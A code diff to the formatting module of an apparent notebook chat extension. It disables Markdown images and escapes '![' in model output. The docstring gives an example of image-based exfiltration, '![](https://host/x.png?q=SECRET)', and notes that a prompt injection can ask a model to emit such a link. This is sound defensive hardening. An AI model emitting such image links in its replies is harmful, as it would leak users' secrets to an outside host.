@@ -1,9 +1,12 @@
 """Formatting shared by every view, so no two views format the same thing twice.
 
 Pure functions, no widgets. Model output is untrusted: Markdown is rendered with raw HTML
-disabled (markdown-it also refuses `javascript:`-style links), and every other string that
-reaches HTML goes through `html.escape`. Class names carry the `cm-` prefix and styles are
-inline, so nothing leaks into the rest of the notebook.
+and images disabled (markdown-it also refuses `javascript:`-style links), and every other
+string that reaches HTML goes through `html.escape`. Images stay off because an image loads
+by itself: `![](https://host/x.png?q=SECRET)` in a reply (a prompt injection can ask for
+one) would send data to that host the moment it is shown; it renders as `!` plus a link.
+Class names carry the `cm-` prefix and styles are inline, so nothing leaks into the rest of
+the notebook.
 """
 
 from __future__ import annotations
@@ -14,6 +17,7 @@ import html
 import json
 import math
 import re
+from collections.abc import Iterator
 from typing import Any
 
 from ..turn import CallRecord
@@ -33,10 +37,10 @@ FLAGS = {
 
 @functools.cache
 def markdown_parser() -> Any:
-    """The one shared CommonMark parser (raw HTML off)."""
+    """The one shared CommonMark parser (raw HTML and images off)."""
     from markdown_it import MarkdownIt
 
-    return MarkdownIt("commonmark", {"html": False})
+    return MarkdownIt("commonmark", {"html": False}).disable("image")
 
 
 @functools.cache
@@ -44,11 +48,11 @@ def block_parser() -> Any:
     """The same parser without the inline pass: top-level block structure at a fifth the cost."""
     from markdown_it import MarkdownIt
 
-    return MarkdownIt("commonmark", {"html": False}).disable("inline")
+    return MarkdownIt("commonmark", {"html": False}).disable(["inline", "image"])
 
 
 def markdown_to_html(text: str) -> str:
-    """CommonMark to HTML with raw HTML shown as text and unsafe link schemes refused."""
+    """CommonMark to HTML: raw HTML shown as text, no images, unsafe link schemes refused."""
     return markdown_parser().render(text)
 
 
@@ -78,8 +82,9 @@ def _top_level(tokens: list[Any]) -> list[tuple[int, int]]:
 def safe_markdown(text: str, tokens: list[Any] | None = None) -> str:
     """Model Markdown made safe for frontends that render text/markdown unsanitized.
 
-    Outside top-level code blocks every `<` becomes `&lt;`, so no tag or autolink can form;
-    when a segment mentions a script/data scheme or an entity, `[` is escaped too so no
+    Outside top-level code blocks every `<` becomes `&lt;`, so no tag or autolink can form,
+    and `![` becomes `\\![`, so no image can form (it reads as `!` and a link); when a
+    segment mentions a script/data scheme or an entity, `[` is escaped too so no
     link can form. Top-level code blocks are re-fenced with a fence their content cannot
     close, and keep their text verbatim. `tokens`: `block_parser().parse(text)` if at hand.
     """
@@ -165,7 +170,7 @@ _RISKY = re.compile(r"(?i)script\W*:|data\W*:|&#|&\w+;")
 
 
 def _neutralize(segment: str) -> str:
-    segment = segment.replace("<", "&lt;")
+    segment = segment.replace("<", "&lt;").replace("![", "\\![")
     if _RISKY.search(segment):
         segment = segment.replace("[", "\\[")
     return segment
@@ -177,6 +182,25 @@ def _fence(code: str, info: str) -> str:
     lang = re.sub(r"[^\w+.-]", "", info.split()[0]) if info.strip() else ""
     body = code if code.endswith("\n") or not code else code + "\n"
     return f"{ticks}{lang}\n{body}{ticks}\n"
+
+
+def message_blocks(message: dict[str, Any]) -> list[dict[str, Any]]:
+    """A message's content as blocks (a plain string content is one text block)."""
+    # Same rule as turn.py's private `_blocks`.
+    content = message.get("content")
+    if isinstance(content, str):
+        return [{"type": "text", "text": content}]
+    return list(content or [])
+
+
+def reply_blocks(replies: list[dict[str, Any]]) -> Iterator[tuple[dict[str, Any], str | None]]:
+    """Every block of `replies` in order, with the tool's name for a tool_result block."""
+    names: dict[str, str] = {}
+    for message in replies:
+        for block in message_blocks(message):
+            if block.get("type") in ("tool_use", "server_tool_use"):
+                names[str(block.get("id"))] = str(block.get("name"))
+            yield block, names.get(str(block.get("tool_use_id")))
 
 
 def block_dict(block: Any) -> dict[str, Any]:
@@ -319,11 +343,23 @@ def tool_result_line(name: str, content: Any, is_error: bool) -> str:
     return f"[{label} {name}] {tool_result_text(content)}"
 
 
-def dropped_note(dropped_turns: int, chat: str) -> str | None:
-    """The re-run notice shown at begin(), or None when nothing is dropped."""
+def dropped_note(dropped_turns: int, chat: str, *, committed: bool = False) -> str | None:
+    """The re-run notice, or None when no later turn is dropped.
+
+    At begin() nothing has happened yet (a failed exchange changes nothing), so the note
+    says what the commit will do; `committed`: the note of the final record, in the past.
+    """
     if dropped_turns <= 0:
         return None
-    return f"(re-run: dropped {dropped_turns} later turn(s) from chat {chat!r})"
+    if committed:
+        return (
+            f"(re-run: replaced this cell's earlier turn; dropped {dropped_turns} later "
+            f"turn(s) of chat {chat!r})"
+        )
+    return (
+        f"(re-run: replaces this cell's earlier turn; {dropped_turns} later turn(s) of chat "
+        f"{chat!r} will be dropped)"
+    )
 
 
 def _usd(value: float) -> str:
